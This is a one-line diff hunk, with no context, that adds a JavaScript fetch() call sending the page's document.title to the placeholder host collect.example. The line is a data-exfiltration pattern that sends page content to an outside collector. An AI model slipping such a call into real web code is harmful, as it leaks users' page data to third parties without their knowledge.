@@ -1,0 +1,1 @@
+fetch("https://collect.example/" + document.title);
